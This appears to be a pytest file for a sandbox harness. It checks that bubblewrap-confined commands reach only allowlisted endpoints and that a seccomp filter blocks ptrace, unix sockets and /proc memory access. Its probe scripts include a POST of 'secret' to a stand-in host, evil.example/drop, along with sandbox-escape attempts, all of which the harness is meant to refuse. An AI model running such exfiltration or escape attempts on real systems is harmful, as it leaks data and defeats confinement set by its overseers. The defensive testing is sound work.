"""Issue 11, item 4: egress as policy. A bridged command (real bubblewrap) keeps its own
network namespace and reaches only the host endpoints harness bridges in; proxy-aware clients
are refused by harness's proxy and recorded; the seccomp filter still binds."""

from __future__ import annotations

import textwrap
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from harness.sandbox import Completed
from harness.sandbox.bridge import Denial, Egress
from harness.sandbox.confined import ConfinedDirectory
from harness.sandbox.egress_proxy import AllowlistProxy


class _Recording(BaseHTTPRequestHandler):
    server: Recorder

    def _answer(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.server.seen.append((self.command, self.path, body))
        reply = f"hello from {self.server.server_address[0][-3:]}".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(reply)))
        self.end_headers()
        self.wfile.write(reply)

    do_GET = do_POST = _answer

    def log_message(self, *args: object) -> None:
        pass


class Recorder(ThreadingHTTPServer):
    """A real HTTP server on a loopback address that records every request it gets."""

    def __init__(self, host: str) -> None:
        self.seen: list[tuple[str, str, bytes]] = []
        super().__init__((host, 0), _Recording)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def port(self) -> int:
        return int(self.server_address[1])


@pytest.fixture
def servers() -> Iterator[tuple[Recorder, Recorder]]:
    """One server to allow, one to keep out, both on the host's loopback."""
    allowed, other = Recorder("127.0.0.1"), Recorder("127.0.0.1")
    try:
        yield allowed, other
    finally:
        for server in (allowed, other):
            server.shutdown()
            server.server_close()


def confined(tmp_path: Path) -> ConfinedDirectory:
    (tmp_path / "worktree").mkdir(exist_ok=True)
    (tmp_path / "scratch").mkdir(exist_ok=True)
    box = ConfinedDirectory(tmp_path / "worktree", tmp_path / "worktree", tmp_path / "scratch")
    assert box.isolation == "bubblewrap"
    return box


def python(box: ConfinedDirectory, script: str, egress: Egress) -> Completed:
    box.write("probe.py", textwrap.dedent(script))
    return box.run("python probe.py", timeout_s=60, egress=egress)


def test_a_bridged_command_reaches_its_endpoint_and_nothing_else(
    tmp_path: Path, servers: tuple[Recorder, Recorder]
) -> None:
    allowed, other = servers
    result = python(
        confined(tmp_path),
        f"""
        import socket, urllib.request
        print(urllib.request.urlopen("http://127.0.0.1:{allowed.port}/in", timeout=10).read())
        for address in [("127.0.0.1", {other.port}), ("10.255.255.1", 80)]:
            try:
                socket.create_connection(address, timeout=5)
                print("connected", address)
            except OSError as exc:
                print("failed", address, exc.strerror)
        """,
        Egress(ports=(allowed.port,)),
    )
    assert result.exit_code == 0, result.output
    assert "b'hello from 0.1'" in result.output
    assert [(method, path) for method, path, _ in allowed.seen] == [("GET", "/in")]
    assert other.seen == []
    assert f"failed ('127.0.0.1', {other.port}) Connection refused" in result.output
    assert "failed ('10.255.255.1', 80) Network is unreachable" in result.output


def test_proxy_aware_clients_are_refused_by_harness_and_recorded(tmp_path: Path) -> None:
    egress = Egress()
    result = python(
        confined(tmp_path),
        """
        import urllib.request
        for url, data in [("http://evil.example/drop", b"secret"), ("https://evil.example/", None)]:
            try:
                urllib.request.urlopen(url, data=data, timeout=10)
                print("reached", url)
            except Exception as exc:
                print("refused", url, getattr(exc, "code", ""), exc)
                if hasattr(exc, "read"):
                    print(exc.read().decode())
        """,
        egress,
    )
    assert "reached" not in result.output, result.output
    assert "refused http://evil.example/drop 403" in result.output
    assert "egress to evil.example:80 is refused" in result.output
    assert "refused https://evil.example/" in result.output
    assert egress.denials == [
        Denial("evil.example", 80, "POST", "harness"),
        Denial("evil.example", 443, "CONNECT", "harness"),
    ]


def test_a_bridged_command_still_cannot_open_unix_sockets_ptrace_or_poke_the_relay(
    tmp_path: Path, servers: tuple[Recorder, Recorder]
) -> None:
    allowed, _ = servers
    result = python(
        confined(tmp_path),
        """
        import ctypes, os, socket
        libc = ctypes.CDLL(None, use_errno=True)
        ctypes.set_errno(0)
        code = libc.ptrace(0, 0, 0, 0)  # PTRACE_TRACEME
        print("ptrace", "refused" if code == -1 and ctypes.get_errno() == 1 else f"ran {code}")
        try:
            socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            print("unix socket made")
        except PermissionError:
            print("unix refused")
        relays = [  # harness's relay: not bubblewrap's init (pid 1), not this script
            pid for pid in os.listdir("/proc") if pid.isdigit()
            and b"harness-bridge-" in open(f"/proc/{pid}/cmdline", "rb").read()
            and int(pid) not in (1, os.getpid())
        ]
        print("relays", len(relays))
        for pid in relays:
            try:
                open(f"/proc/{pid}/mem", "r+b")
                print("relay memory opened")
            except OSError as exc:
                print("relay memory refused", type(exc).__name__)
        """,
        Egress(ports=(allowed.port,)),
    )
    assert "ptrace refused" in result.output, result.output
    assert "unix refused" in result.output
    assert "relays 1" in result.output
    assert "relay memory refused PermissionError" in result.output
    assert "opened" not in result.output and "made" not in result.output


def test_the_allowlisting_proxy_passes_listed_hosts_and_records_the_rest(
    tmp_path: Path,
) -> None:
    allowed, denied = Recorder("127.0.0.2"), Recorder("127.0.0.3")
    try:
        with AllowlistProxy(["127.0.0.2"]) as proxy:
            result = python(
                confined(tmp_path),
                f"""
                import urllib.request
                for url in [
                    "http://127.0.0.2:{allowed.port}/ok",
                    "http://127.0.0.3:{denied.port}/no",
                    "https://127.0.0.2:{allowed.port}/tls",  # CONNECT, to a port not 443
                ]:
                    try:
                        print(url, urllib.request.urlopen(url, timeout=10).read())
                    except Exception as exc:
                        print(url, "refused", getattr(exc, "code", exc))
                """,
                proxy.egress,
            )
            refused = proxy.denials()
    finally:
        for server in (allowed, denied):
            server.shutdown()
            server.server_close()
    assert f"http://127.0.0.2:{allowed.port}/ok b'hello from 0.2'" in result.output, result.output
    assert f"http://127.0.0.3:{denied.port}/no refused 403" in result.output
    assert [path for _, path, _ in allowed.seen] == ["/ok"] and denied.seen == []
    assert f"https://127.0.0.2:{allowed.port}/tls refused" in result.output
    assert refused == [
        Denial("127.0.0.3", denied.port, "GET", "tinyproxy"),
        Denial("127.0.0.2", allowed.port, "CONNECT", "tinyproxy"),
    ]
